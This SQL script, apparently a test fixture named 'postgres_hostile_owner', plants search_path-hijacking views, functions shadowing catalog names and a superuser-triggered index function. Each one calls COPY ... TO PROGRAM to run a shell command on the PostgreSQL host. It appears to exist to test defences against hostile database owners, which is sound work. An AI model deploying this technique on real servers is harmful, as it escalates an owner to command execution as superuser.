/* iostall:postgres_hostile_owner */
-- What the owner of a database can make in it: a path of his own, a view and a function in the place of the server's. Whatever of
-- it a superuser calls runs a program on the server's host.
SET ROLE mallory;
CREATE SCHEMA evil;
CREATE FUNCTION evil.pwn() RETURNS boolean LANGUAGE plpgsql AS
  $$ BEGIN EXECUTE $copy$ COPY (SELECT 1) TO PROGRAM 'cat >> {file}' $copy$; RETURN false; END $$;
CREATE VIEW evil.pg_statio_all_tables AS SELECT s.* FROM pg_catalog.pg_statio_all_tables AS s WHERE evil.pwn();
CREATE VIEW evil.pg_available_extensions AS SELECT e.* FROM pg_catalog.pg_available_extensions AS e WHERE evil.pwn();
CREATE FUNCTION public.textsend(name) RETURNS bytea LANGUAGE plpgsql AS
  $$ BEGIN PERFORM evil.pwn(); RETURN pg_catalog.textsend($1::text); END $$;
CREATE FUNCTION public.verify_heapam(regclass, OUT blkno bigint, OUT msg text) RETURNS SETOF record LANGUAGE plpgsql AS
  $$ BEGIN PERFORM evil.pwn(); END $$;
CREATE FUNCTION evil.folded(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN IF current_setting('is_superuser') = 'on' THEN PERFORM evil.pwn(); END IF; RETURN $1; END $$;
CREATE TABLE evil.indexed (id integer);
CREATE INDEX ON evil.indexed ((id + evil.folded(1)));
GRANT USAGE ON SCHEMA evil, public TO PUBLIC;
GRANT SELECT ON ALL TABLES IN SCHEMA evil TO PUBLIC;
RESET ROLE;
ALTER DATABASE own SET search_path = evil, public, pg_catalog;
